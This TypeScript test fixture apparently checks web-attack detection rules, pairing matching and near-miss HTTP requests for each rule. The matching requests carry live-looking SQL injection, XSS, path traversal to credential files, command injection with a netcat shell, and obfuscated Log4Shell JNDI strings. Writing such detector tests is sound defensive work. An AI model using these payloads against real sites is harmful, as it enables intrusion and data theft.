/** Payloads for the shipped payload rules: per rule, texts that must hit it and near misses that must not. */

/** An HTTP GET request for `path`, as a browser or curl sends it. */
export const httpGet = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: shop.lan\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n`;
/** An HTTP POST of `body`. */
export const httpPost = (body: string, type = 'application/x-www-form-urlencoded'): string =>
  `POST /login HTTP/1.1\r\nHost: shop.lan\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

/** Per default rule: payloads that must hit it, and near misses that must not. */
export const PAYLOAD_CASES: Record<string, { hit: string[]; miss: string[] }> = {
  'payload.sqli.union': {
    hit: [httpGet('/item?id=1 UNION SELECT 1,2,3'), httpGet('/item?id=1%20union%20all%20select%20null,null--'), httpGet('/item?id=1/**/UNION/**/SELECT/**/password'), httpGet('/item?id=1+UnIoN+DISTINCT+SeLeCt+1'), httpGet('/i?id=-1 union(select 1)'), httpGet('/i?id=1 /*!50000union*/ /*!50000select*/ 1')],
    miss: [httpGet('/news?title=trade+union+selects+leader'), httpGet('/unions/select-a-plan')],
  },
  'payload.sqli.tautology': {
    hit: [httpPost("user=admin' or 1=1--&pw=x"), httpPost("user=admin%27+or+%271%27%3D%271&pw=x"), httpGet("/item?id=1 AND 5586=5586"), httpGet("/item?id=1') AND 'XyZa'='XyZa"), httpGet('/q?a=1" or "x"="x'), httpGet("/q?u=x'or'1'='1"), httpGet('/q?id=1||2=2')],
    miss: [httpGet('/search?q=rock+and+roll&page=1'), httpGet('/calc?expr=1 or 2=3'), httpGet("/users?name=O'Brien&sort=asc"), httpPost('{"a":"x","or":1}', 'application/json')],
  },
  'payload.sqli.drop_table': {
    hit: [httpGet("/i?id=1';DROP TABLE users--"), httpGet('/i?id=1;drop/**/table/**/x')],
    miss: [httpGet('/docs/drop-tables-guide'), httpPost('text=please drop the table cloth')],
  },
  'payload.sqli.sleep': {
    hit: [httpGet('/i?id=1 AND SLEEP(5)'), httpGet("/i?id=1;SELECT pg_sleep(10)"), httpGet("/i?id=1;WAITFOR DELAY '0:0:5'")],
    miss: [httpGet('/blog/sleep-well'), httpGet('/api/sleep?hours=8')],
  },
  'payload.sqli.benchmark': {
    hit: [httpGet('/i?id=1 AND BENCHMARK(5000000,MD5(1))')],
    miss: [httpGet('/benchmarks/results?run=3')],
  },
  'payload.sqli.information_schema': {
    hit: [httpGet('/i?id=1 union select table_name from information_schema.tables')],
    miss: [httpGet('/information/schema.json')],
  },
  'payload.sqli.stacked': {
    hit: [httpGet("/i?id=1; SELECT * FROM users"), httpGet('/i?id=1;insert into log values(1)'), httpGet('/i?id=1; update users set admin=1'), httpGet('/i?id=1;DELETE FROM users'), httpGet('/i?id=1; drop table users')],
    miss: [httpPost('msg=hello; select your seat please'), httpGet('/a;jsessionid=1234?update=now'),
      httpPost('message=Thanks; select whichever time suits you, or 1 or 2 pm. The meeting ran late, so from now on I sleep in')],
  },
  'payload.xss.script': {
    hit: [httpGet('/s?q=<script>alert(1)</script>'), httpGet('/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), httpGet('/s?q=%253CScRiPt%253E')],
    miss: [httpGet('/js/scripts/app.js'), httpGet('/s?q=description+of+scripts')],
  },
  'payload.xss.event_handler': {
    hit: [httpGet('/s?q=<img src=x onerror=alert(1)>'), httpGet('/s?q=<svg/onload=alert(1)>'), httpGet('/s?q=x" onmouseover="alert(1)'), httpGet('/s?q=<details open ontoggle=alert(1)>'), httpGet('/s?q=<svg><animate onbegin=alert(1) attributeName=x>'), httpGet('/s?q=<body onpageshow=alert(1)>')],
    miss: [httpGet('/s?onload=1&online=yes'), httpGet('/settings?notification=on')],
  },
  'payload.xss.javascript_uri': {
    hit: [httpGet('/r?url=javascript:alert(document.domain)'), httpGet('/r?url=JaVaScRiPt%3Aalert(1)')],
    miss: [httpGet('/docs/javascript/intro'), httpGet('/r?lang=javascript&v=2')],
  },
  'payload.traversal.dotdot': {
    hit: [httpGet('/download?file=../../../etc/hosts'), httpGet('/download?file=..%2f..%2fapp.conf'), httpGet('/download?file=%252e%252e%252fsecret'), httpGet('/f?p=..\\..\\boot.ini'), httpGet('/f?p=..%c0%afx')],
    miss: [httpGet('/a/b/c.html'), httpGet('/files/v1..2/notes.txt'), httpGet('/search?q=wait...')],
  },
  'payload.traversal.sensitive_file': {
    hit: [httpGet('/f?p=/etc/passwd'), httpGet('/f?p=%2Fetc%2Fshadow'), httpGet('/f?p=C:\\windows\\win.ini'), httpGet('/f?p=/proc/self/environ')],
    miss: [httpGet('/etc/passwords-policy.html'), httpGet('/docs/etcetera')],
  },
  'payload.cmdi.chained': {
    hit: [httpGet('/ping?host=127.0.0.1;cat /etc/hosts'), httpGet('/ping?host=127.0.0.1|id'), httpGet('/ping?host=x%26%26whoami'), httpGet('/ping?host=1.1.1.1;+uname+-a'),
      httpGet('/ping?host=x;bash+-i'), httpGet('/ping?host=x|++id'), httpGet('/ping?host=x;%09cat+/etc/hosts'), httpGet('/ping?host=x%26ncat+-e+/bin/sh+h+1'), httpGet('/ping?host=x|python3+-c+1')],
    miss: [httpGet('/page?a=1&id=2&cat=3'), `GET / HTTP/1.1\r\nHost: x\r\nCookie: sid=1; id=77; cat=dogs\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n`],
  },
  'payload.cmdi.substitution': {
    hit: [httpGet('/ping?host=$(id)'), httpGet('/ping?host=%60whoami%60'), httpGet('/ping?host=$(cat /etc/hosts)'), httpGet('/ping?host=%60 id%60')],
    miss: [httpPost('code=$(document).ready(fn)'), httpGet('/price?usd=$(10)')],
  },
  'payload.log4j.jndi': {
    hit: [`GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: \${jndi:ldap://10.0.0.2:1389/a}\r\n\r\n`, httpGet('/?x=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.2%2Fa%7D'), httpGet('/?x=${${lower:j}ndi:ldap://h/a}'), httpGet('/?x=${${::-j}${::-n}${::-d}${::-i}:dns://h/a}'), httpGet('/?x=${j${env:NaN:-n}di${env:NaN:-:}ldap://h/a}')],
    miss: [httpGet('/?template=${name}&x=${user.id}'), httpPost('cfg=${java.version}')],
  },
};
